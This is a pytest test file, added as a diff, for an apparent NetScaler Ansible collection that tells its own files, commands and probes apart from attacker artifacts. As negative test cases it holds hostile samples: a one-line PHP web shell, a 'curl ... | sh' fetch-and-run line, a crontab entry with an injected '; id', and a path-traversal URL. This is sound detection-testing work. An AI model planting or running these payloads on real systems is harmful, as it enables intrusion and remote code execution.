@@ -1,0 +1,328 @@
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""What is ours is known by more than its name: an attacker can choose the name of a file, a User-Agent and an account."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.objects.steps import Step
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.record_trust import RecordTrust
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.change_record import ChangeRecord
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.lock_content import Lock
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.new_record import start_record
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_copies import Copy, file_name
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_states import (
+    CopyState,
+    Outcome,
+)
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.sent_probes import (
+    SentProbes,
+    keep_probes,
+    noted_probes,
+    request_key,
+)
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings import lost_clients
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.lost_clients import LostClients
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.own_changes import (
+    OwnChanges,
+    OwnScript,
+    OwnTest,
+    own_changes,
+)
+
+STEP = Step("responderpolicy", ("tq_demo",), None, {"name": "tq_demo", "rule": "true", "action": "NOOP"})
+FACTS = {
+    "measure": "demo",
+    "version": 2,
+    "kind": "apply",
+    "run": "abc",
+    "ticket": "CHG1",
+    "build": "NS13.0: Build 47.22.nc",
+}
+
+
+@pytest.fixture
+def record(tmp_path: Path) -> ChangeRecord:
+    made = start_record(tmp_path, "gw-a", (STEP,), FACTS)
+    made.finish(Outcome.APPLIED)
+    return made
+
+
+@pytest.fixture
+def ours(tmp_path: Path, record: ChangeRecord) -> OwnChanges:
+    return own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
+
+
+def lock(run: str, **changes: str) -> bytes:
+    words = dict.fromkeys(("owner", "holder", "measure", "reason", "ticket", "token"), "x")
+    return Lock(**{**words, **changes}, run=run, taken=None, expires=None).to_bytes()
+
+
+def test_lock_and_copy_of_a_run_are_ours(ours: OwnChanges, record: ChangeRecord) -> None:
+    assert ours.is_own_file("/var/tmp", "tourniquet_lock_3.txt", lock("abc"))
+    name = file_name(record.name, CopyState.ENDED)
+    assert ours.is_own_file("/var/tmp/", name, Copy.of(record).to_bytes())
+
+
+@pytest.mark.parametrize(
+    ("directory", "name", "content"),
+    [
+        ("/var/tmp", "tourniquet_lock.txt", None),
+        ("/var/tmp", "tourniquet_lock.txt", b"<?php eval($_POST[1]);"),
+        ("/var/tmp", "tourniquet_lock.txt", lock("another")),
+        ("/var/tmp", "tourniquet_lock.txt", lock("abc") + b"\n#!/bin/sh\n"),
+        ("/var/tmp", "tourniquet_lock.php", lock("abc")),
+        ("/var/vpn/theme", "tourniquet_lock.txt", lock("abc")),
+        ("/var/tmp", "tourniquet_20200115T020000.000000Z-abc_ended.txt", b"<?php eval($_POST[1]);"),
+    ],
+)
+def test_a_name_alone_proves_nothing(ours: OwnChanges, directory: str, name: str, content: bytes | None) -> None:
+    assert not ours.is_own_file(directory, name, content)
+
+
+def test_a_copy_that_was_changed_is_not_ours(ours: OwnChanges, record: ChangeRecord) -> None:
+    value = json.loads(Copy.of(record).to_bytes())
+    value["record"]["reason"] = "other words"
+    assert not ours.is_own_file("/var/tmp", file_name(record.name, CopyState.ENDED), json.dumps(value).encode())
+
+
+def test_a_command_and_a_probe_are_ours_only_where_all_fits(ours: OwnChanges) -> None:
+    now = datetime.now(UTC)
+    assert ours.is_own_command("tq", "192.0.2.1", now)
+    assert not ours.is_own_command("nsroot", "192.0.2.1", now)
+    assert not ours.is_own_command("tq", "127.0.0.1", now)
+    assert not ours.is_own_command("tq", "192.0.2.1", now + timedelta(hours=2))
+    assert not ours.is_own_command("tq", "192.0.2.1", None)
+    assert ours.is_own_request("tourniquet-probe/abc", "192.0.2.1", now)
+    assert not ours.is_own_request("tourniquet-probe/abc", "198.51.100.7", now)
+    assert not ours.is_own_request("tourniquet-probe/abcd", "192.0.2.1", now)
+    assert not ours.is_own_request("x tourniquet-probe/abc", "192.0.2.1", now)
+    assert not ours.is_own_request("tourniquet-probe/abc", "192.0.2.1", now - timedelta(hours=2))
+    for lost in ("", "127.0.0.1", "::1"):
+        assert not ours.is_own_request("tourniquet-probe/abc", lost, now)
+        assert ours.lacks_only_the_client("tourniquet-probe/abc", "/x", lost, now)
+        assert not ours.lacks_only_the_client("tourniquet-probe/abcd", "/x", lost, now)
+        assert not ours.lacks_only_the_client("tourniquet-probe/abc", "/x", lost, now + timedelta(hours=2))
+        assert not ours.lacks_only_the_client("tourniquet-probe/abc", "/x", lost, None)
+    assert not ours.lacks_only_the_client("tourniquet-probe/abc", "/x", "198.51.100.7", now)
+    assert ours.is_own_probe("192.0.2.1", now)
+    assert not ours.is_own_probe("198.51.100.7", now)
+    assert not ours.is_own_probe("192.0.2.1", now + timedelta(hours=2))
+    assert not ours.is_own_probe("192.0.2.1", None)
+
+
+def test_probes_of_a_run_without_a_record_are_ours_only_where_all_fits(tmp_path: Path) -> None:
+    with noted_probes(tmp_path, "gw-a", "abd"):
+        pass
+    ours = own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
+    now = datetime.now(UTC)
+    assert ours.is_own_request("tourniquet-probe/abd", "192.0.2.1", now)
+    assert not ours.is_own_request("tourniquet-probe/abe", "192.0.2.1", now)
+    assert not ours.is_own_request("tourniquet-probe/abd", "198.51.100.7", now)
+    for off in (-6, 6):
+        assert not ours.is_own_request("tourniquet-probe/abd", "192.0.2.1", now + timedelta(minutes=off))
+    assert ours.values()["user_agents"] == ["tourniquet-probe/abd"]
+    assert own_changes(tmp_path, "gw-b", RecordTrust(), ["tq"], ["192.0.2.1"]).probes == ()
+    assert not ours.is_own_command("tq", "192.0.2.1", now), "a run that only probes gives no command"
+    assert not ours.is_own_file("/var/tmp", "tourniquet_lock.txt", lock("abd"))
+
+
+def test_probes_of_another_control_node_are_ours_from_an_address_that_a_person_named(tmp_path: Path) -> None:
+    now, run = datetime.now(UTC), "0123456789"
+    keep_probes(tmp_path, "utrecht", "gw-a", [SentProbes(run, now - timedelta(minutes=1), now)])
+
+    def ours(named: str) -> OwnChanges:
+        return own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"], [named])
+
+    agent = f"tourniquet-probe/{run}"
+    nobody_named = own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
+    assert nobody_named.not_recognised is not None
+    assert not nobody_named.is_own_request(agent, "192.0.2.1", now)
+    known = ours("192.0.2.2")
+    assert known.not_recognised is None
+    assert known.is_own_request(agent, "192.0.2.2", now)
+    assert known.is_own_probe("192.0.2.2", now)
+    # Whatever the other one says: not from elsewhere, not from our own address, not as another run, not at another time, and no command.
+    for source in ("198.51.100.7", "192.0.2.1"):
+        assert not known.is_own_request(agent, source, now)
+        assert not known.is_own_probe(source, now)
+        assert known.time_off(agent, source, now + timedelta(hours=3)) is None
+    assert not known.is_own_request("tourniquet-probe/abcdef0123", "192.0.2.2", now)
+    assert not known.is_own_request(agent, "192.0.2.2", now + timedelta(hours=2))
+    assert not known.is_own_command("tq", "192.0.2.2", now)
+    assert not ours("192.0.2.3").is_own_request(agent, "192.0.2.2", now)
+    assert known.values()["user_agents"] == [agent]
+
+
+def test_a_run_that_sent_probes_alone_explains_no_command_and_no_lock(tmp_path: Path) -> None:
+    """It wrote nothing: what somebody else does with the account at that time is not ours."""
+    with noted_probes(tmp_path, "gw-a", "abc"):
+        pass
+    ours = own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
+    assert ours.is_own_request("tourniquet-probe/abc", "192.0.2.1", datetime.now(UTC))
+    assert not ours.is_own_command("tq", "192.0.2.1", datetime.now(UTC))
+    assert not ours.is_own_file("/var/tmp", "tourniquet_lock.txt", lock("abc"))
+
+
+@pytest.mark.parametrize(
+    ("agent", "source", "hours", "off"),
+    [
+        ("tourniquet-probe/abc", "192.0.2.1", 0, None),
+        ("tourniquet-probe/abc", "192.0.2.1", -2, timedelta(hours=-2)),
+        ("tourniquet-probe/abc", "192.0.2.1", 30, timedelta(hours=30)),
+        ("tourniquet-probe/abc", "198.51.100.7", 30, None),
+        ("tourniquet-probe/abcd", "192.0.2.1", 30, None),
+        ("curl/7", "192.0.2.1", 30, None),
+    ],
+)
+def test_how_far_a_probe_is_from_the_run_that_it_names(
+    ours: OwnChanges, agent: str, source: str, hours: int, off: timedelta | None
+) -> None:
+    began = ours.runs[0].began
+    assert ours.time_off(agent, source, began + timedelta(hours=hours)) == off
+    assert ours.time_off(agent, source, None) is None
+
+
+def test_the_list_for_other_scanners_names_what_we_left(ours: OwnChanges) -> None:
+    values = json.loads(json.dumps(ours.values()))
+    assert values["user_agents"] == ["tourniquet-probe/abc"]
+    assert values["accounts"] == ["tq"]
+    assert values["addresses"] == ["192.0.2.1"]
+    assert [run["run"] for run in values["runs"]] == ["abc"]
+    assert (values["url_tags"], values["log_tags"]) == ([], [])
+    tests = (OwnTest("abc", AT, "192.0.2.7", TAG), OwnTest("def", AT, "192.0.2.7", f"{TAG}0"))
+    values = replace(ours, tests=tests, script=SCRIPT).values()
+    assert values["user_agents"] == ["tourniquet-probe/abc", "tourniquet-probe/def"]
+    assert values["url_tags"] == [TAG, f"{TAG}0"]
+    assert values["log_tags"] == ["fileswatch", "tourniquet_on_box"]
+
+
+def test_a_record_of_nobody_we_know_explains_nothing(tmp_path: Path, record: ChangeRecord) -> None:
+    value = json.loads(record.path.read_text())
+    value["reason"] = "changed"
+    record.path.write_text(json.dumps(value))
+    assert own_changes(tmp_path, "gw-a", RecordTrust()).runs == ()
+
+
+AT = datetime(2026, 11, 28, 6, 0, tzinfo=UTC)
+TAG = "tq-alarm-0123456789abcdef"
+
+
+@pytest.mark.parametrize(
+    ("url", "source", "minutes", "is_ours"),
+    [
+        (f"/vpn/../vpns/?{TAG}-0-", "192.0.2.7", 0, True),
+        (f"/{TAG}/x", "192.0.2.1", -9, True),  # the address by which the appliance knows this control node
+        ("/vpn/../vpns/?tq-alarm-0", "192.0.2.7", 0, False),
+        (f"/{TAG}/x", "203.0.113.9", 0, False),
+        (f"/{TAG}/x", "192.0.2.7", 6, False),
+        (f"/{TAG}/x", "192.0.2.7", -16, False),
+        (f"/{TAG}/x", "192.0.2.7", None, False),
+    ],
+)
+def test_a_test_of_the_alarm_is_ours_by_tag_address_and_time(
+    url: str, source: str, minutes: int | None, is_ours: bool
+) -> None:
+    ours = OwnChanges("gw-a", sources=frozenset(["192.0.2.1"]), tests=(OwnTest("run", AT, "192.0.2.7", TAG),))
+    time = None if minutes is None else AT + timedelta(minutes=minutes)
+    assert ours.is_own_test(url, source, time) is is_ours
+
+
+SCRIPT = OwnScript(
+    "/nsconfig/tourniquet_on_box.sh",
+    frozenset({hashlib.sha256(b"ours").hexdigest()}),
+    "/var/cron/tabs/root",
+    "*/5 * * * * /bin/sh /nsconfig/tourniquet_on_box.sh > /dev/null 2>&1",
+    frozenset(["tourniquet_on_box", "fileswatch"]),
+)
+
+
+def test_the_script_of_a_run_is_ours_by_its_content(ours: OwnChanges) -> None:
+    known = replace(ours, script=SCRIPT)
+    assert known.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"ours")
+    assert not known.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"theirs")
+    assert not known.is_own_file("/nsconfig", "tourniquet_on_box.sh", None)
+    assert not known.is_own_file("/var/tmp", "tourniquet_on_box.sh", b"ours")
+    assert not ours.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"ours")
+    assert known.is_own_line(SCRIPT.crontab, SCRIPT.line.encode() + b"\n")
+    assert not known.is_own_line("/etc/crontab", SCRIPT.line.encode())
+    assert not known.is_own_line(SCRIPT.crontab, SCRIPT.line.encode() + b"; id")
+    assert not ours.is_own_line(SCRIPT.crontab, SCRIPT.line.encode())
+    assert SCRIPT.path in known.values()["files"]
+    assert known.values()["cron"] == [f"{SCRIPT.crontab}: {SCRIPT.line}"]
+    assert ours.values()["cron"] == []
+
+
+@pytest.mark.parametrize(
+    ("line", "is_ours"),
+    [
+        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: new /netscaler/portal/templates/x.xml", True),
+        ("Sep  2 01:02:03 ns tourniquet_on_box[12]: checked 1210 files: 1 new, 0 changed, 0 gone", True),
+        ("Sep 20 01:02:03 <user.warn> ns fileswatch: new /netscaler/portal/templates/x.xml", True),
+        ("Sep 20 01:02:03 <user.warn> ns fileswatcher: new /netscaler/portal/templates/x.xml", False),
+        ("Sep 20 01:02:03 <user.warn> ns sh: tourniquet_on_box: new /netscaler/portal/templates/x.xml", False),
+        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: curl http://192.0.2.1/x | sh", False),
+        ("tourniquet_on_box: new /x", False),
+    ],
+)
+def test_a_report_is_ours_by_one_of_its_tags_and_its_form(ours: OwnChanges, line: str, is_ours: bool) -> None:
+    assert replace(ours, script=SCRIPT).is_own_report(line.encode()) is is_ours
+    assert not ours.is_own_report(line.encode())
+
+
+def test_commands_over_ssh_are_ours_only_where_all_fits_and_never_by_the_word_of_another_node(tmp_path: Path) -> None:
+    now, run = datetime.now(UTC), "0123456789"
+    with noted_probes(tmp_path, "gw-a", run, "hunter"):
+        pass
+    keep_probes(tmp_path, "utrecht", "gw-a", [SentProbes("1123456789", now, now, shell="intruder")])
+    ours = own_changes(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"], ["192.0.2.2"])
+    assert ours.is_own_command("hunter", "192.0.2.1", now)
+    assert ours.is_own_log_on("hunter", "192.0.2.1")
+    assert ours.is_own_log_on("tq", "192.0.2.1")
+    for user, source, time in (
+        ("hunter", "198.51.100.7", now),
+        ("nsroot", "192.0.2.1", now),
+        ("hunter", "192.0.2.1", now + timedelta(hours=2)),
+        ("hunter", "192.0.2.1", None),
+        ("intruder", "192.0.2.2", now),
+        ("tq", "192.0.2.1", now),
+    ):
+        assert not ours.is_own_command(user, source, time), user
+    assert not ours.is_own_log_on("intruder", "192.0.2.2")
+    assert not ours.is_own_log_on("tq", "198.51.100.7")
+    assert not ours.is_own_request(f"tourniquet-probe/{run}", "192.0.2.1", now), "a run over SSH sends no probe"
+
+
+def test_a_request_without_a_client_is_ours_as_often_as_it_was_sent(tmp_path: Path) -> None:
+    now, agent = datetime.now(UTC), "tourniquet-probe/0123456789"
+    with noted_probes(tmp_path, "gw-a", "0123456789") as note:
+        note.sent = {request_key("GET", "/vpns/"): 2}
+    ours, lost = own_changes(tmp_path, "gw-a", RecordTrust(), [], ["192.0.2.1"]), LostClients()
+
+    def takes(method: str, url: str, source: str = "", log: str = "n httpaccess.log") -> bool:
+        return lost.takes(ours, (agent, method, url, source), now, log)
+
+    assert [takes("GET", "/vpns/") for _ in range(3)] == [True, True, False]
+    assert takes("GET", "/vpns/", log="n other.log"), "each log counts by itself"
+    assert not takes("POST", "/vpns/", log="x")
+    assert not takes("GET", "/vpns/x", log="x")
+    assert not takes("GET", "/vpns/", "198.51.100.7", log="x")
+    lost.forget("n httpaccess.log")
+    assert takes("GET", "/vpns/"), "a log that is read whole again is counted anew"
+
+
+def test_what_is_remembered_of_lines_without_a_client_is_bounded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(lost_clients, "MOST", 2)
+    with noted_probes(tmp_path, "gw-a", "0123456789") as note:
+        note.sent = {request_key("GET", "/"): 1}
+    ours, lost = own_changes(tmp_path, "gw-a", RecordTrust(), [], ["192.0.2.1"]), LostClients()
+    for number in range(4):
+        assert lost.takes(ours, ("tourniquet-probe/0123456789", "GET", "/", ""), datetime.now(UTC), f"n{number}")
+    assert len(lost.seen) == 2
